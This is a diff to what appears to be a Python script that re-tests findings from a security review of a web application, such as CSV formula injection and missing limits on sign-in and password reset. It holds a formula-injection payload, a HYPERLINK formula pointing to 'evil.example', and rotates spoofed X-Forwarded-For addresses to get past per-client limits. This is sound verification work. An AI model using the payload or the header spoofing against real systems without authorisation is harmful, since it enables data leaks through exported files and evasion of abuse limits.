@@ -16,6 +16,7 @@ from __future__ import annotations
 import argparse
 import datetime
 import io
+import itertools
 import json
 import re
 import statistics
@@ -41,11 +42,18 @@ def report(name: str, seen: str, holds: bool) -> None:
     print(f"{'held' if holds else 'REPRODUCES'} | {name} | {seen}", flush=True)
 
 
+_addresses = itertools.count(1)
+
+
 class Person:
+    """A browser of its own, at an address of its own behind the proxy (the sign-in limit is per
+    client address)."""
+
     def __init__(self, url: str, username: str = "", password: str = "", ip: str = "") -> None:
         self.url, self.session = url, requests.Session()
-        if ip:  # as the reverse proxy passes the client on
-            self.session.headers["X-Forwarded-For"] = ip
+        number = next(_addresses)
+        # As the reverse proxy passes the client on.
+        self.session.headers["X-Forwarded-For"] = ip or f"10.8.{number // 250}.{number % 250 + 1}"
         if username:
             answer = self.sign_in(username, password)
             assert answer.status_code == 302, (username, answer.status_code)
@@ -81,7 +89,8 @@ class _Form(HTMLParser):
         if tag == "input" and name and a.get("type") not in ("submit", "button", "file"):
             if a.get("type") in ("checkbox", "radio") and "checked" not in a:
                 return
-            self.fields.setdefault(name, []).append(a.get("value", "on"))
+            checkable = a.get("type") in ("checkbox", "radio")
+            self.fields.setdefault(name, []).append(a.get("value", "on" if checkable else ""))
         elif tag == "select" and name:
             self._select, self._options, self._multiple = name, [], "multiple" in a
         elif tag == "option" and self._select:
@@ -219,32 +228,30 @@ def main() -> None:
         and powers["history"] == 200,
     )
 
-    # 7. CSV formula injection and the BOM.
+    # 7. CSV formula injection and the BOM: a branch renames an agent who is on today's sheet.
     duty = Person(url, f"{STATION}-duty", password)
     formula = '=HYPERLINK("http://evil.example/?x","click")'
-    agent_form = _Form()
-    agent_form.feed(manager.get(f"{base}/agents/{agent_pk}/").text)
-    old_name = agent_form.fields["name"][0]
-    manager.post(
-        f"{base}/agents/{agent_pk}/",
-        {k: v[0] for k, v in agent_form.fields.items() if k != "csrfmiddlewaretoken"}
-        | {"name": formula},
-    )
-    sheet = duty.get(f"{s}/escorts/sheet/{today}/").text
-    version = re.search(r"/v(\d+)/sheet\.csv", sheet)
+    sheet_url = f"{s}/escorts/sheet/{today}/"
+    version = re.search(r"/v(\d+)/sheet\.csv", duty.get(sheet_url).text)
     if version is None:  # no sheet yet today: the duty officer builds one and waits for it
         duty.post(f"{s}/escorts/sheet/{today}/rebuild/")
         for _ in range(120):
-            version = re.search(r"/v(\d+)/sheet\.csv", duty.get(f"{s}/escorts/sheet/{today}/").text)
+            version = re.search(r"/v(\d+)/sheet\.csv", duty.get(sheet_url).text)
             if version:
                 break
             time.sleep(1)
-    csv = duty.get(f"{s}/escorts/sheet/{today}/v{version.group(1)}/sheet.csv").content
-    manager.post(
-        f"{base}/agents/{agent_pk}/",
-        {k: v[0] for k, v in agent_form.fields.items() if k != "csrfmiddlewaretoken"}
-        | {"name": old_name},
+    csv_url = f"{s}/escorts/sheet/{today}/v{version.group(1)}/sheet.csv"
+    listed = duty.get(csv_url).content.decode("utf-8-sig")
+    agents = re.findall(
+        r"<strong>([^<]+)</strong>.*?/agents/(\d+)/\"", manager.get(f"{base}/agents/").text, re.S
     )
+    old_name, on_sheet = next((n, pk) for n, pk in agents if n in listed)
+    agent_form = _Form()
+    agent_form.feed(manager.get(f"{base}/agents/{on_sheet}/").text)
+    fields = {k: v[0] for k, v in agent_form.fields.items() if k != "csrfmiddlewaretoken"}
+    manager.post(f"{base}/agents/{on_sheet}/", fields | {"name": formula})
+    csv = duty.get(csv_url).content
+    manager.post(f"{base}/agents/{on_sheet}/", fields | {"name": old_name})
     text = csv.decode("utf-8-sig")
     bom = csv.startswith(b"\xef\xbb\xbf")
     formula_cell = re.search(r'(^|,)"?=HYPERLINK', text, re.M) is not None
@@ -337,8 +344,9 @@ def main() -> None:
     )
 
     # 10. Password reset without a limit.
+    client = Person(url)  # one client, as in the review
     resets = [
-        Person(url).post("/accounts/password_reset/", {"email": "someone@example.org"}).status_code
+        client.post("/accounts/password_reset/", {"email": "someone@example.org"}).status_code
         for _ in range(28)
     ]
     report(
